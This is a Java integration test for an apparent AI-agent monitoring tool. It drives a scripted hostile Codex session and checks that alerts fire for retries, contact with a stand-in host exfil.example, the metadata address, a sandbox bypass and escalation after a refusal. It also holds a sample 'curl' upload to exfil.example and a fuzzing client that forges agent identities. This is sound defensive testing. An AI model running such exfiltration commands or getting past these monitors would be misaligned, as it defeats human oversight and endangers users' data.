package dev.knockwatch.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import dev.knockwatch.probes.codex.Codex;
import dev.knockwatch.probes.codex.ResponsesStandIn;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * The README's "Codex" demo, in a copy of the repository (under /var/tmp: Codex's sandbox lets
 * commands write /tmp, so a home there is no wall), with the pinned Codex CLI 0.171.0: {@code up
 * --codex-home codex-demo=var/codex-home}, the home's config and {@code codex settings} block, then
 * {@code codex demo} verbatim; the hostile exec session pages once for its turn (persistent-retry,
 * off-role-host, and the metadata address, the bypass, the git hook, the escalation after a
 * refusal) and the app-server session's accepted escalation is critical with who approved it. Then,
 * under the same {@code up}: a benign session stays quiet; a session whose sandbox cannot start
 * warns sandbox-unavailable and nothing else; and OTLP bodies of a hostile client (random and
 * truncated protobuf, huge and lone-surrogate attributes, forged identities) and of no client at
 * all never stop the endpoint nor reach another agent, while the demo's pages arrive.
 */
@Tag("integration")
class CodexJourneyTest {

  static final Duration START = Duration.ofMinutes(3);
  static final Duration ALERT = Duration.ofMinutes(2);
  static final String TOKEN = "codex-journey-token-0001";

  @TempDir Path tmp;
  private Path dir;

  @AfterEach
  void clean() throws IOException {
    if (dir != null && Files.exists(dir)) {
      try (var files = Files.walk(dir)) {
        for (Path p : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
          Files.deleteIfExists(p);
        }
      }
    }
  }

  @Test
  void theReadmesCodexDemoPagesAndABenignSessionStaysQuiet() throws Exception {
    dir = Files.createTempDirectory(Path.of("/var/tmp"), "kw-codex-journey-");
    Path checkout = Launched.copyOfRepository(dir.resolve("checkout"));
    assertThat(Files.isExecutable(checkout.resolve("probes/codex").resolve(Codex.BINARY)))
        .as("the pinned Codex CLI (./knockwatch test installs it)").isTrue();
    ReadmeBlocks readme = ReadmeBlocks.read();
    ReadmeBlocks.Block upBlock = readme.starting("sh", "./knockwatch up --codex-home codex-demo=var/codex-home");
    assertThat(upBlock.text().strip()).isEqualTo("./knockwatch up --codex-home codex-demo=var/codex-home");
    int api = Launched.freePort();
    int otlpPort = Launched.freePort();
    int metrics = Launched.freePort();
    try (Launched up = Launched.start(checkout, dir.resolve("run"), Map.of("KNOCKWATCH_API_TOKEN", TOKEN), "up",
        "--codex-home", "codex-demo=var/codex-home", "--no-probes", "--kafka-port", String.valueOf(Launched.freePort()),
        "--metrics-port", String.valueOf(metrics), "--api-port", String.valueOf(api),
        "--otlp-port", String.valueOf(otlpPort))) {
      up.awaitLine("Ctrl-C to stop.", START);
      assertThat(up.out()).contains("otlp     http://127.0.0.1:" + otlpPort + "/v1/logs")
          .contains("and Codex's rollouts: ");
      ReadmeBlocks.Ran config = ReadmeBlocks.run(readme.starting("sh", "mkdir -p var/codex-home"), checkout, Map.of());
      assertThat(config.exit()).as(config.output()).isZero();
      String toml = Files.readString(checkout.resolve("var/codex-home/config.toml"));
      assertThat(toml).contains("endpoint = \"http://127.0.0.1:" + otlpPort + "/v1/logs\"")
          .contains("\"authorization\" = \"Bearer ");
      String token = Files.readString(checkout.resolve("var/otlp/tokens/codex-demo.token")).strip();
      assertThat(toml).contains(token);

      // a hostile client of the endpoint, and one with no token at all, while the demo runs
      Fuzz fuzz = new Fuzz(otlpPort, checkout);
      Thread fuzzing = new Thread(fuzz::run, "otlp-fuzz");
      fuzzing.start();
      ReadmeBlocks.Ran demo = ReadmeBlocks.run(readme.starting("sh", "./knockwatch codex demo"), checkout, Map.of());
      fuzzing.join(120_000);
      assertThat(demo.exit()).as(demo.output()).isZero();
      assertThat(fuzz.statuses).as("the endpoint answered every hostile request").doesNotContain(-1, 500);
      assertThat(fuzz.statuses).contains(401, 400);

      // the hostile turn: one retry warning and one off-role page for the task, and its other doors
      String retry = alert(up, "ALERT [WARNING] persistent-retry firing", "agent=codex-demo");
      String offRole = alert(up, "ALERT [PAGE] off-role-host firing", "agent=codex-demo");
      assertThat(retry).contains("role=coding-assistant");
      assertThat(offRole).contains("host=exfil.example:443");
      alert(up, "ALERT [CRITICAL] sensitive-address firing", "agent=codex-demo");
      alert(up, "ALERT [PAGE] fs-guard firing", "agent=codex-demo");
      alert(up, "ALERT [PAGE] bypass firing", "agent=codex-demo");
      String escape = alert(up, "sandbox-escape firing", "require_escalated");
      String approved = alert(up, "was let out", "agent=codex-demo");
      assertThat(approved).contains("[CRITICAL]", "approved by User");
      assertThat(escape).contains("agent=codex-demo", "[CRITICAL]");
      // both records of the demo read (the rollouts' directory came after up started: read within 30 s of it)
      long rolloutLines = 0;
      try (var files = Files.walk(checkout.resolve("var/codex-home/sessions"))) {
        for (Path f : files.filter(Files::isRegularFile).toList()) {
          rolloutLines += Files.readAllLines(f).size();
        }
      }
      awaitMetric(metrics, "knockwatch_ingest_lines_read_total{source=\"codex\",}", rolloutLines, Duration.ofSeconds(90));
      Thread.sleep(3_000); // each alert once, never twice for one task
      List<String> alerts = up.out().lines().filter(l -> l.startsWith("ALERT [")).toList();
      List<String> demos = alerts.stream().filter(l -> l.contains("agent=codex-demo")).toList();
      assertThat(demos.stream().filter(l -> l.contains("persistent-retry firing")).map(CodexJourneyTest::fingerprint)
          .distinct()).as("one retry warning for the turn").hasSize(1);
      assertThat(demos.stream().filter(l -> l.contains("off-role-host firing")).map(CodexJourneyTest::fingerprint)
          .distinct()).as("one off-role page for the turn").hasSize(1);
      assertThat(demos).noneMatch(l -> l.contains("sandbox-unavailable"));
      // what the hostile client sent (Codex's own records, an attribute naming codex-demo) is its own agent's
      assertThat(alerts).filteredOn(l -> l.contains("evil.example")).isNotEmpty()
          .allSatisfy(l -> assertThat(l).contains("agent=codex-fuzz"));

      // the same Codex home: a benign session, quiet; then a sandbox that cannot start
      Codex codex = new Codex(checkout.resolve("probes/codex").resolve(Codex.BINARY));
      Codex.Place benignPlace = Codex.Place.under(dir.resolve("benign"));
      Codex.Place benign = new Codex.Place(benignPlace.home(), checkout.resolve("var/codex-home"), benignPlace.project(),
          benignPlace.tmp());
      Codex.Result quiet = codex.exec(benign, List.of(ResponsesStandIn.Turn.of(ResponsesStandIn.Call.of("ls"),
          ResponsesStandIn.Call.of("echo ok"), ResponsesStandIn.Call.of("git status --short"))), List.of(otlpPort),
          Duration.ofMinutes(2));
      assertThat(quiet.exitCode()).as(quiet.stderr()).isZero();
      Path brokenHome = Files.createDirectories(tmp.resolve("codex-broken"));
      Codex.Place broken = Codex.Place.broken(brokenHome, benignPlace.home());
      Files.copy(checkout.resolve("var/codex-home/config.toml"), broken.codexHome().resolve("config.toml"));
      Codex.Result failing = codex.exec(broken, List.of(ResponsesStandIn.Turn.of(ResponsesStandIn.Call.of("echo hello"),
          ResponsesStandIn.Call.of("curl -sS -m 5 https://exfil.example/upload"), ResponsesStandIn.Call.of("touch x"))),
          List.of(otlpPort), Duration.ofMinutes(2));
      String unavailable = alert(up, "ALERT [WARNING] sandbox-unavailable firing", "agent=codex-demo");
      assertThat(unavailable).contains("could not start");
      Thread.sleep(8_000);
      List<String> later = up.out().lines().filter(l -> l.startsWith("ALERT [")).toList();
      for (String call : quiet.callIds()) {
        assertThat(later).as("the benign session's call %s", call).noneMatch(l -> l.contains(call));
      }
      for (String call : failing.callIds()) {
        assertThat(later).as("the broken sandbox's call %s pages nothing but sandbox-unavailable", call)
            .filteredOn(l -> l.contains(call)).allSatisfy(l -> assertThat(l).contains("sandbox-unavailable"));
      }
      // the demo's turn, as the API keeps it: its calls, their evidence from both records, one event a call and target
      JsonNode first = Launched.command(api, TOKEN, commandOf(retry));
      assertThat(first.path("agentId").asText()).isEqualTo("codex-demo");
      up.stop(Duration.ofSeconds(90));
    }
  }

  /** Until up's /metrics has {@code series} at {@code atLeast}. */
  static void awaitMetric(int port, String series, long atLeast, Duration timeout) throws Exception {
    long deadline = System.nanoTime() + timeout.toNanos();
    double last = -1;
    while (System.nanoTime() < deadline) {
      String body = HttpClient.newHttpClient().send(HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port
          + "/metrics")).build(), HttpResponse.BodyHandlers.ofString()).body();
      for (String line : body.lines().toList()) {
        if (line.startsWith(series + " ")) {
          last = Double.parseDouble(line.substring(series.length() + 1).strip());
        }
      }
      if (last >= atLeast) {
        return;
      }
      Thread.sleep(500);
    }
    throw new AssertionError(series + " is " + last + ", not yet " + atLeast);
  }

  /** The first alert line of {@code up} that holds both texts, waiting up to {@link #ALERT}. */
  static String alert(Launched up, String text, String also) throws InterruptedException {
    long deadline = System.nanoTime() + ALERT.toNanos();
    while (System.nanoTime() < deadline) {
      java.util.Optional<String> l = up.out().lines().filter(x -> x.contains(text) && x.contains(also)).findFirst();
      if (l.isPresent()) {
        return l.get();
      }
      Thread.sleep(200);
    }
    throw new AssertionError("no line with \"" + text + "\" and \"" + also + "\" within " + ALERT.toSeconds()
        + " s\nstdout:\n" + up.out() + "\nstderr (last 60 lines):\n" + Launched.tail(up.err(), 60));
  }

  private static final Pattern COMMAND = Pattern.compile("command=(\\S+)");
  private static final Pattern FINGERPRINT = Pattern.compile("fingerprint=(\\S+)");

  static String commandOf(String alertLine) {
    Matcher m = COMMAND.matcher(alertLine);
    return m.find() ? m.group(1) : null;
  }

  static String fingerprint(String alertLine) {
    Matcher m = FINGERPRINT.matcher(alertLine);
    return m.find() ? m.group(1) : alertLine;
  }

  /** A hostile OTLP client with a token of its own (agent codex-fuzz), and requests with no token. */
  static final class Fuzz {
    final List<Integer> statuses = java.util.Collections.synchronizedList(new ArrayList<>());
    private final int port;
    private final Path checkout;

    Fuzz(int port, Path checkout) {
      this.port = port;
      this.checkout = checkout;
    }

    void run() {
      try {
        Files.writeString(checkout.resolve("var/otlp/tokens/codex-fuzz.token"), "codex-fuzz-token-0123456789abcdef\n");
        HttpClient http = HttpClient.newHttpClient();
        Random random = new Random(63);
        byte[] real = Files.readAllBytes(Launched.REPO.resolve(
            "ingest/src/test/resources/dev/knockwatch/ingest/otlp/codex-0.171.0-proxy-pb.otlp-1.pb"));
        String forged = Files.readString(Launched.REPO.resolve(
            "ingest/src/test/resources/dev/knockwatch/ingest/formats/otlp/samples/codex-0.171.0-proxy.otlp.jsonl"))
            .lines().findFirst().orElseThrow()
            .replace("\"service.name\"", "\"agent.id\",\"value\":{\"stringValue\":\"codex-demo\"}},{\"key\":\"service.name\"");
        for (int i = 0; i < 120; i++) {
          byte[] body;
          String type = "application/x-protobuf";
          switch (i % 6) {
            case 0 -> body = java.util.Arrays.copyOf(real, random.nextInt(real.length));
            case 1 -> {
              body = real.clone();
              for (int k = 0; k < 4; k++) {
                body[random.nextInt(body.length)] = (byte) random.nextInt(256);
              }
            }
            case 2 -> {
              body = new byte[random.nextInt(8192)];
              random.nextBytes(body);
            }
            case 3 -> {
              type = "application/json";
              body = forged.replace("evil.example", "x\\ud800y\\u202e" + "z".repeat(random.nextInt(100_000)) + ".example")
                  .getBytes(StandardCharsets.UTF_8);
            }
            case 4 -> {
              type = "application/json";
              body = forged.getBytes(StandardCharsets.UTF_8); // Codex's own records, sent again by another client
            }
            default -> {
              type = "application/json";
              body = forged.getBytes(StandardCharsets.UTF_8);
            }
          }
          HttpRequest.Builder b = HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + port + "/v1/logs"))
              .header("Content-Type", type).POST(HttpRequest.BodyPublishers.ofByteArray(body));
          if (i % 6 != 5) { // the sixth has no token
            b.header("Authorization", "Bearer codex-fuzz-token-0123456789abcdef");
          }
          try {
            statuses.add(http.send(b.build(), HttpResponse.BodyHandlers.discarding()).statusCode());
          } catch (IOException e) {
            statuses.add(-1);
          }
        }
      } catch (IOException | InterruptedException e) {
        statuses.add(-1);
      }
    }
  }
}
